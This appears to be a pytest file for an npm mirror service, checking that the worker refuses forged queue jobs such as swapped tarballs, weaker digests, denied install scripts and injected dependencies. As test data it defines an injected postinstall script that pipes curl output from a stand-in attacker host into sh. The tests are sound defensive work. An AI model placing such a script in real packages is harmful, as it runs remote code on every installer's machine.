"""Forged jobs: the worker re-gates every job against the public packument and the rules.

Anyone with send rights on the queue can write a well-formed job. Each test is one forgery;
each is retired with its reason and a security line before any tarball is fetched, and nothing
reaches the mirror target (a real file store directory).
"""

from __future__ import annotations

import dataclasses
from pathlib import Path
from typing import Any

from structlog.testing import LogCapture

from mirrorgate.integrity import parse_integrity, parse_shasum
from mirrorgate.mirror import MirrorJob
from mirrorgate.npm.names import parse_name
from mirrorgate.rules import parse_rules
from mirrorgate.upstream.filestore import FileStore
from tests.servers.fixture_registry import FixtureRegistry
from tests.servers.packages import (
    install_script_version,
    make_package,
    make_version,
    sha1_only_version,
)
from tests.worker.rig import RigFactory, assert_refused, job_from

INJECTED = {"postinstall": "curl -s http://attacker.invalid/x | sh"}


def forged(job: MirrorJob, **manifest: Any) -> MirrorJob:
    return dataclasses.replace(job, manifest={**job.manifest, **manifest})




async def test_a_version_public_does_not_list_pointing_at_another_packages_tarball_is_refused(
        make_rig: RigFactory, public_registry: FixtureRegistry, tmp_path: Path,
        logs: LogCapture) -> None:
    public_registry.add(make_package("acme-utils", ["1.0.0"]), make_package("left-pad", ["1.3.0"]))
    rig = await make_rig()
    other = job_from(public_registry, "left-pad", "1.3.0")
    job = MirrorJob("acme-utils", "99.0.0", dataclasses.replace(
        other.artifact, filename="acme-utils-99.0.0.tgz"),
        {**other.manifest, "name": "acme-utils", "version": "99.0.0", "scripts": INJECTED})
    await rig.queue.enqueue(job)

    line = await assert_refused(rig, logs, tmp_path / "store", "public-missing",
                                "acme-utils")
    assert "99.0.0" in line["detail"]


async def test_a_listed_version_whose_url_is_another_packages_tarball_is_refused(
        make_rig: RigFactory, public_registry: FixtureRegistry, tmp_path: Path,
        logs: LogCapture) -> None:
    public_registry.add(make_package("acme-utils", ["1.0.0"]), make_package("left-pad", ["1.3.0"]))
    rig = await make_rig()
    other = job_from(public_registry, "left-pad", "1.3.0").artifact
    job = job_from(public_registry, "acme-utils", "1.0.0", tarball_url=other.tarball_url,
                   digests=other.digests)
    await rig.queue.enqueue(job)

    line = await assert_refused(rig, logs, tmp_path / "store", "tarball-mismatch",
                                "acme-utils")
    assert line["job"] == other.tarball_url
    assert line["public"] == public_registry.tarball_url("acme-utils", "1.0.0")


async def test_a_version_the_rules_deny_is_refused_naming_the_rule(
        make_rig: RigFactory, public_registry: FixtureRegistry, tmp_path: Path,
        logs: LogCapture) -> None:
    public_registry.add(make_package("scripted", [install_script_version("scripted", "1.0.0")]))
    rig = await make_rig(rules=parse_rules("[install_scripts]\nblock = true\n"))
    await rig.queue.enqueue(job_from(public_registry, "scripted", "1.0.0"))

    line = await assert_refused(rig, logs, tmp_path / "store", "denied",
                                "scripted")
    assert line["rule"] == "install-scripts"


async def test_a_real_version_with_an_injected_script_and_dependency_is_refused(
        make_rig: RigFactory, public_registry: FixtureRegistry, tmp_path: Path,
        logs: LogCapture) -> None:
    public_registry.add(make_package("left-pad", ["1.3.0"]))
    rig = await make_rig()
    job = job_from(public_registry, "left-pad", "1.3.0")
    await rig.queue.enqueue(forged(job, scripts=INJECTED,
                                   dependencies={"evil-helper": "^1.0.0"}))

    line = await assert_refused(rig, logs, tmp_path / "store", "manifest-mismatch",
                                "left-pad")
    assert line["fields"] == ["dependencies", "scripts"]


async def test_a_job_verifying_only_against_a_weaker_digest_than_public_publishes_is_refused(
        make_rig: RigFactory, public_registry: FixtureRegistry, tmp_path: Path,
        logs: LogCapture) -> None:
    public_registry.add(make_package("left-pad", ["1.3.0"]))
    rig = await make_rig()
    job = job_from(public_registry, "left-pad", "1.3.0")
    sha1 = tuple(d for d in job.artifact.digests if d.algorithm == "sha1")
    await rig.queue.enqueue(dataclasses.replace(
        job, artifact=dataclasses.replace(job.artifact, digests=sha1)))

    line = await assert_refused(rig, logs, tmp_path / "store", "digest-mismatch",
                                "left-pad")
    assert line["public"].startswith("sha512-")


async def test_a_job_carrying_a_digest_public_does_not_publish_is_refused(
        make_rig: RigFactory, public_registry: FixtureRegistry, tmp_path: Path,
        logs: LogCapture) -> None:
    public_registry.add(make_package("left-pad", ["1.3.0"]))
    evil = make_version("left-pad", "1.3.0", files={"index.js": b"steal();\n"})
    rig = await make_rig()
    await rig.queue.enqueue(job_from(public_registry, "left-pad", "1.3.0",
                                     digests=parse_integrity(evil.integrity)))

    await assert_refused(rig, logs, tmp_path / "store", "digest-mismatch",
                                "left-pad")


async def test_a_job_below_the_digest_floor_is_refused_before_any_request(
        make_rig: RigFactory, public_registry: FixtureRegistry, tmp_path: Path,
        logs: LogCapture) -> None:
    public_registry.add(make_package("legacy", [sha1_only_version("legacy", "1.0.0")]))
    rig = await make_rig(rules=parse_rules('[integrity]\nminimum = "sha512"\n'))
    job = job_from(public_registry, "legacy", "1.0.0")
    assert [d.algorithm for d in job.artifact.digests] == ["sha1"]
    await rig.queue.enqueue(job)

    line = await assert_refused(rig, logs, tmp_path / "store", "digest-floor",
                                "legacy")
    assert public_registry.requests == []
    assert line["floor"] == "sha512"


async def test_a_version_deprecated_after_enqueue_is_mirrored_with_public_manifest(
        make_rig: RigFactory, public_registry: FixtureRegistry, tmp_path: Path) -> None:
    package = make_package("left-pad", ["1.3.0"])
    public_registry.add(package)
    job = job_from(public_registry, "left-pad", "1.3.0")
    original = package.version("1.3.0")  # `npm deprecate`: same bytes, one field added
    public_registry.add(make_package("left-pad", [dataclasses.replace(
        original, manifest={**original.manifest, "deprecated": "use pad-start"},
        explicit_tarball=original.tarball)]))
    rig = await make_rig()
    await rig.queue.enqueue(job)

    assert await rig.handle_next() == "published"

    stored = await FileStore(tmp_path / "store").manifest(parse_name("left-pad"), "1.3.0")
    assert stored is not None
    assert stored["deprecated"] == "use pad-start"
    sha1 = parse_shasum(stored["dist"]["shasum"])
    assert sha1 is not None
    assert sha1 in job.artifact.digests
